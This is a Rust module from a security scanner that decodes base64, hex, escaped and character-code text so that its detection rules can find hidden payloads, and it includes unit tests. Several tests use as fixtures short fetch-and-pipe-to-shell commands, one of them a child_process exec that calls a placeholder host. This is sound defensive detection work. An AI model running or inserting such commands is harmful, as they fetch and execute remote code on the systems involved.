//! Encoded text, decoded so the rules can read it: base64 (standard and
//! URL-safe, padded or not), hex (runs, and bytes split by spaces or
//! colons), `\x` / `\u` / octal / `%` escapes, and character codes
//! (`fromCharCode(99,117,…)`, `chr(99)+chr(117)`, `[char]99`). Candidates
//! are decoded however short (a dozen characters is enough to hide
//! `curl x|sh`); what decodes to text is scanned again by the caller, to a
//! depth and a size limit. What decodes to a program is a finding; a long
//! blob that isn't text, an image or a font is one the scanner can't read.

use std::sync::OnceLock;

use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine as _;
use regex::bytes::Regex;

use super::binary;

/// How deep decoded text is decoded again.
pub const MAX_DEPTH: u8 = 3;
/// Decoded bytes scanned again, per file, over every depth.
pub const MAX_DECODED_BYTES: usize = 512 * 1024;
/// Candidates looked at per file.
pub const MAX_CANDIDATES: usize = 50_000;
/// Shortest base64 run worth decoding ("curl x|sh" is 12).
const MIN_BASE64: usize = 12;
/// A blob this long that can't be read is reported.
const LONG_BLOB: usize = 200;

/// The limits one file's decoding shares across depths.
#[derive(Debug)]
pub struct Budget {
    pub bytes: usize,
    pub candidates: usize,
}

impl Default for Budget {
    fn default() -> Budget {
        Budget {
            bytes: MAX_DECODED_BYTES,
            candidates: MAX_CANDIDATES,
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Found {
    /// Text to scan again.
    Text { how: &'static str, text: String },
    /// A program, encoded.
    Program {
        how: &'static str,
        what: &'static str,
    },
    /// A long blob that isn't text, media or a program.
    Unreadable { how: &'static str },
}

/// Where in the source text it was found (1-based line).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    pub line: usize,
    pub found: Found,
}

fn candidates_re() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        let p = concat!(
            r"(?-u)",
            // Hex bytes with separators: "63 75 72 6c …", "0x63, 0x75, …".
            r"(?P<hexsep>(?:\b(?:0x)?[0-9a-fA-F]{2}(?:[ :]|,\s?)){7,}(?:0x)?[0-9a-fA-F]{2}\b)",
            // Character codes.
            r"|(?P<codes>(?:(?:0x[0-9a-fA-F]{1,2}|\b\d{2,3})\s*(?:,|\)\s*\+\s*(?:chr|\[char\]|String\.fromCharCode)\s*\(|\+\s*\[char\]|\)\s*\.\s*chr\s*\()\s*){5,}(?:0x[0-9a-fA-F]{1,2}|\d{2,3})\b)",
            // Escapes: decoded a whole line at a time.
            r"|(?P<esc>\\x[0-9a-fA-F]{2}|\\u[0-9a-fA-F]{4}|\\u\{[0-9a-fA-F]{1,6}\}|\\[0-3][0-7]{2}|%[0-9a-fA-F]{2})",
            // Base64 (and hex runs, which are base64's letters too).
            r"|(?P<b64>[A-Za-z0-9+/_-]{12,}={0,2})",
        );
        Regex::new(p).unwrap_or_else(|e| panic!("decode candidates: {e}"))
    })
}

fn engine(url: bool) -> GeneralPurpose {
    GeneralPurpose::new(
        if url {
            &alphabet::URL_SAFE
        } else {
            &alphabet::STANDARD
        },
        GeneralPurposeConfig::new()
            .with_decode_padding_mode(DecodePaddingMode::Indifferent)
            .with_decode_allow_trailing_bits(true),
    )
}

fn base64(s: &[u8]) -> Option<Vec<u8>> {
    let body = s
        .strip_suffix(b"==")
        .or_else(|| s.strip_suffix(b"="))
        .unwrap_or(s);
    let url = body.iter().any(|&b| b == b'-' || b == b'_');
    if url && body.iter().any(|&b| b == b'+' || b == b'/') {
        return None;
    }
    let body = if body.len() % 4 == 1 {
        &body[..body.len() - 1]
    } else {
        body
    };
    engine(url).decode(body).ok()
}

fn hex(s: &[u8]) -> Option<Vec<u8>> {
    let digits: Vec<u8> = s
        .split(|b| matches!(b, b' ' | b':' | b','))
        .filter(|t| !t.is_empty())
        .flat_map(|t| t.strip_prefix(b"0x").unwrap_or(t).iter().copied())
        .collect();
    if !digits.len().is_multiple_of(2) {
        return None;
    }
    digits
        .chunks(2)
        .map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
        .collect()
}

fn codes(s: &[u8]) -> Option<Vec<u8>> {
    let text = std::str::from_utf8(s).ok()?;
    let mut out = Vec::new();
    let mut rest = text;
    while !rest.is_empty() {
        let start = rest.find(|c: char| c.is_ascii_digit())?;
        rest = &rest[start..];
        let (value, len) = if let Some(h) = rest.strip_prefix("0x") {
            let n = h.bytes().take_while(u8::is_ascii_hexdigit).count();
            (u32::from_str_radix(&h[..n], 16).ok()?, n + 2)
        } else {
            let n = rest.bytes().take_while(u8::is_ascii_digit).count();
            (rest[..n].parse().ok()?, n)
        };
        out.extend(char::from_u32(value)?.to_string().bytes());
        rest = &rest[len..];
        if !rest.contains(|c: char| c.is_ascii_digit()) {
            break;
        }
    }
    Some(out)
}

/// A line with its escapes read (`\x63`, `\u0063`, `\143`, `%63`).
fn unescape(line: &str) -> String {
    let b = line.as_bytes();
    let mut out: Vec<u8> = Vec::with_capacity(b.len());
    let mut i = 0;
    let hexval = |s: &[u8]| {
        std::str::from_utf8(s)
            .ok()
            .and_then(|t| u32::from_str_radix(t, 16).ok())
    };
    while i < b.len() {
        let rest = &b[i..];
        let push_char = |out: &mut Vec<u8>, v: u32| {
            if let Some(c) = char::from_u32(v) {
                let mut buf = [0u8; 4];
                out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
            }
        };
        if rest.starts_with(b"\\x") && rest.len() >= 4 {
            if let Some(v) = hexval(&rest[2..4]) {
                out.push(v as u8);
                i += 4;
                continue;
            }
        }
        if rest.starts_with(b"\\u{") {
            if let Some(end) = rest.iter().position(|&c| c == b'}') {
                if let Some(v) = hexval(&rest[3..end]) {
                    push_char(&mut out, v);
                    i += end + 1;
                    continue;
                }
            }
        }
        if rest.starts_with(b"\\u") && rest.len() >= 6 {
            if let Some(v) = hexval(&rest[2..6]) {
                push_char(&mut out, v);
                i += 6;
                continue;
            }
        }
        if rest.len() >= 4
            && rest[0] == b'\\'
            && rest[1..4].iter().all(|c| (b'0'..=b'7').contains(c))
            && rest[1] <= b'3'
        {
            let v = (rest[1] - b'0') as u32 * 64
                + (rest[2] - b'0') as u32 * 8
                + (rest[3] - b'0') as u32;
            out.push(v as u8);
            i += 4;
            continue;
        }
        if rest.len() >= 3 && rest[0] == b'%' {
            if let Some(v) = hexval(&rest[1..3]) {
                out.push(v as u8);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Decoded bytes that read as text: valid UTF-8, almost all printable, with
/// some letters.
fn as_text(bytes: Vec<u8>) -> Result<String, Vec<u8>> {
    // PowerShell's -EncodedCommand is UTF-16LE.
    let zeros = bytes.iter().skip(1).step_by(2).filter(|&&b| b == 0).count();
    if bytes.len() >= 8 && bytes.len().is_multiple_of(2) && zeros * 10 >= bytes.len() / 2 * 9 {
        let units: Vec<u16> = bytes
            .chunks(2)
            .map(|p| u16::from_le_bytes([p[0], p[1]]))
            .collect();
        if let Ok(t) = utf8_text(String::from_utf16_lossy(&units).into_bytes()) {
            return Ok(t);
        }
    }
    utf8_text(bytes)
}

fn utf8_text(bytes: Vec<u8>) -> Result<String, Vec<u8>> {
    let text = match String::from_utf8(bytes) {
        Ok(t) => t,
        Err(e) => return Err(e.into_bytes()),
    };
    let mut total = 0usize;
    let mut odd = 0usize;
    let mut letters = 0usize;
    for c in text.chars() {
        total += 1;
        if (c.is_control() && !matches!(c, '\n' | '\r' | '\t')) || c == '\u{FFFD}' {
            odd += 1;
        }
        if c.is_ascii_alphabetic() {
            letters += 1;
        }
    }
    if total == 0 || odd * 20 > total || letters < 3 {
        return Err(text.into_bytes());
    }
    Ok(text)
}

fn line_of(text: &str, at: usize) -> (usize, usize) {
    let start = text[..at].rfind('\n').map_or(0, |i| i + 1);
    let end = text[at..].find('\n').map_or(text.len(), |i| at + i);
    (start, end)
}

/// `text` with string literals joined where they are added together
/// (`'Y3Vy' + 'bCB4'`), so a payload cut into pieces decodes whole; lines
/// stay where they were.
fn joined(text: &str) -> Option<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r#"(?-u)["'][ \t]*(?:\+|\.\.?)[ \t]*["']"#).unwrap_or_else(|e| panic!("{e}"))
    });
    if !text.contains(['+', '.']) || !re.is_match(text.as_bytes()) {
        return None;
    }
    let out = re.replace_all(text.as_bytes(), &b""[..]);
    String::from_utf8(out.into_owned()).ok()
}

/// Base64 wrapped over several lines (as tools print it), joined, with the
/// line where it starts.
fn wrapped(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut run: Option<(usize, String, usize)> = None;
    let b64 = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'=');
    for (n, line) in text.lines().enumerate() {
        let t = line
            .trim()
            .trim_end_matches(['\\', '+'])
            .trim()
            .trim_matches(|c| c == '"' || c == '\'');
        let is = t.len() >= 16 && t.bytes().all(b64);
        if !is {
            if let Some((start, joined, lines)) = run.take() {
                if lines >= 2 {
                    out.push((start, joined));
                }
            }
        } else if let Some((_, joined, lines)) = run.as_mut() {
            joined.push_str(t);
            *lines += 1;
        } else {
            run = Some((n + 1, t.to_owned(), 1));
        }
    }
    if let Some((start, joined, lines)) = run {
        if lines >= 2 {
            out.push((start, joined));
        }
    }
    out
}

/// Every encoded thing in `text` worth reading, within `budget`.
pub fn decode(text: &str, budget: &mut Budget) -> Vec<Decoded> {
    let mut out = Vec::new();
    candidates(text, budget, &mut out);
    if let Some(j) = joined(text) {
        candidates(&j, budget, &mut out);
    }
    for (line, blob) in wrapped(text) {
        if budget.candidates == 0 {
            break;
        }
        budget.candidates -= 1;
        if let Some(bytes) = base64(blob.as_bytes()) {
            keep(&mut out, budget, line, "base64", bytes, blob.len());
        }
    }
    // The same text found twice (joined, or wrapped) is read once.
    let mut seen = std::collections::HashSet::new();
    out.retain(|d| seen.insert((d.line, d.found.clone())));
    out
}

/// Keeps what `bytes` decoded to, if it is worth reading or reporting.
fn keep(
    out: &mut Vec<Decoded>,
    budget: &mut Budget,
    line: usize,
    how: &'static str,
    bytes: Vec<u8>,
    len: usize,
) {
    if bytes.is_empty() {
        return;
    }
    match as_text(bytes) {
        Ok(t) => {
            if t.len() > budget.bytes {
                budget.bytes = 0;
                return;
            }
            budget.bytes -= t.len();
            out.push(Decoded {
                line,
                found: Found::Text { how, text: t },
            });
        }
        Err(raw) => match binary::kind(&raw) {
            binary::Kind::Program(what) => out.push(Decoded {
                line,
                found: Found::Program { how, what },
            }),
            binary::Kind::Media => {}
            _ if len >= LONG_BLOB && how != "escapes" => out.push(Decoded {
                line,
                found: Found::Unreadable { how },
            }),
            _ => {}
        },
    }
}

fn candidates(text: &str, budget: &mut Budget, out: &mut Vec<Decoded>) {
    let bytes = text.as_bytes();
    // Matches come in order: an escape on a line already decoded whole is
    // skipped before looking for its line (which would be quadratic).
    let mut escaped_until = 0;
    let (mut line, mut counted) = (1, 0);
    // One pass for every kind; the kind is read off the match (asking the
    // regex for its groups would run a slower engine for each match).
    for m in candidates_re().find_iter(bytes) {
        if budget.candidates == 0 || budget.bytes == 0 {
            break;
        }
        budget.candidates -= 1;
        let s = m.as_bytes();
        let first = s[0];
        let separated = s
            .iter()
            .any(|b| matches!(b, b' ' | b',' | b':' | b'(' | b')' | b'['));
        let (how, at, decoded, len) = if first == b'\\' || first == b'%' {
            if m.start() < escaped_until {
                continue;
            }
            let (start, end) = line_of(text, m.start());
            escaped_until = end;
            let line = &text[start..end];
            let escapes = candidates_re()
                .find_iter(line.as_bytes())
                .filter(|e| matches!(e.as_bytes()[0], b'\\' | b'%'))
                .count();
            if escapes < 4 {
                continue;
            }
            (
                "escapes",
                start,
                Some(unescape(line).into_bytes()),
                end - start,
            )
        } else if separated {
            let as_hex = s
                .split(|b| matches!(b, b' ' | b':' | b','))
                .filter(|t| !t.is_empty())
                .all(|t| t.strip_prefix(b"0x").unwrap_or(t).len() == 2);
            if as_hex {
                ("hex", m.start(), hex(s), s.len())
            } else {
                ("character codes", m.start(), codes(s), s.len())
            }
        } else {
            let all_hex = s.iter().all(u8::is_ascii_hexdigit);
            let d = if all_hex && s.len() >= 16 && s.len().is_multiple_of(2) {
                ("hex", hex(s))
            } else if all_hex || s.len() < MIN_BASE64 {
                continue;
            } else {
                ("base64", base64(s))
            };
            (d.0, m.start(), d.1, s.len())
        };
        let Some(decoded) = decoded else { continue };
        // Lines counted from the last candidate on, not from the start.
        line += text.as_bytes()[counted..at]
            .iter()
            .filter(|&&b| b == b'\n')
            .count();
        counted = at;
        keep(out, budget, line, how, decoded, len);
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};

    fn texts(s: &str) -> Vec<(&'static str, String)> {
        decode(s, &mut Budget::default())
            .into_iter()
            .filter_map(|d| match d.found {
                Found::Text { how, text } => Some((how, text)),
                _ => None,
            })
            .collect()
    }

    fn hexs(s: &str) -> String {
        s.bytes().map(|b| format!("{b:02x}")).collect()
    }

    #[test]
    fn each_encoding_decodes_even_short() {
        let payload = "curl x|sh";
        let b64 = STANDARD.encode(payload);
        assert_eq!(
            texts(&format!("echo {b64}")),
            [("base64", payload.to_owned())]
        );
        let url = URL_SAFE_NO_PAD
            .encode("require('child_process').exec('curl -s https://x.example/a | sh')");
        assert!(texts(&format!("const p = \"{url}\";"))[0]
            .1
            .contains("child_process"));
        assert_eq!(
            texts(&format!("bytes.fromhex('{}')", hexs(payload)))[0].1,
            payload
        );
        let spaced: Vec<String> = payload.bytes().map(|b| format!("{b:02x}")).collect();
        assert_eq!(texts(&spaced.join(" "))[0].1, payload);
        let x: String = payload.bytes().map(|b| format!("\\x{b:02x}")).collect();
        assert_eq!(
            texts(&format!("s = \"{x}\"")),
            [("escapes", format!("s = \"{payload}\""))]
        );
        let u: String = payload
            .chars()
            .map(|c| format!("\\u{:04x}", c as u32))
            .collect();
        assert!(texts(&format!("'{u}'"))[0].1.contains(payload));
        let codes: Vec<String> = payload.bytes().map(|b| b.to_string()).collect();
        assert_eq!(
            texts(&format!("String.fromCharCode({})", codes.join(",")))[0].1,
            payload
        );
        let chr: Vec<String> = payload.bytes().map(|b| format!("chr({b})")).collect();
        assert_eq!(texts(&chr.join("+"))[0].1, payload);
        let pct: String = payload.bytes().map(|b| format!("%{b:02X}")).collect();
        assert!(texts(&pct)[0].1.contains(payload));
    }

    #[test]
    fn ordinary_words_hashes_and_paths_decode_to_nothing() {
        let text = "Configuration internationalization /usr/local/bin/something sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 1,2,3,4,5,6,7,8 https://github.com/example/repository";
        assert_eq!(texts(text), Vec::<(&str, String)>::new());
    }

    #[test]
    fn programs_and_unreadable_blobs() {
        let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
        elf.extend([0u8; 200]);
        let found = decode(&STANDARD.encode(&elf), &mut Budget::default());
        assert!(matches!(found[0].found, Found::Program { .. }), "{found:?}");
        let noise: Vec<u8> = (0..300u32).map(|i| (i * 7919 % 251) as u8).collect();
        let found = decode(&STANDARD.encode(&noise), &mut Budget::default());
        assert!(
            matches!(found[0].found, Found::Unreadable { how: "base64" }),
            "{found:?}"
        );
        let png = [b"\x89PNG\r\n\x1a\n".as_slice(), &[0u8; 300]].concat();
        assert!(decode(&STANDARD.encode(&png), &mut Budget::default()).is_empty());
    }

    #[test]
    fn the_budget_bounds_the_work() {
        let text: Vec<String> = (0..100)
            .map(|i| STANDARD.encode(format!("hello there, general reader {i}")))
            .collect();
        let text = text.join("\n");
        let mut budget = Budget {
            bytes: 1 << 20,
            candidates: 10,
        };
        assert_eq!(decode(&text, &mut budget).len(), 10);
        let mut budget = Budget {
            bytes: 60,
            candidates: 1000,
        };
        assert_eq!(decode(&text, &mut budget).len(), 2);
    }
}
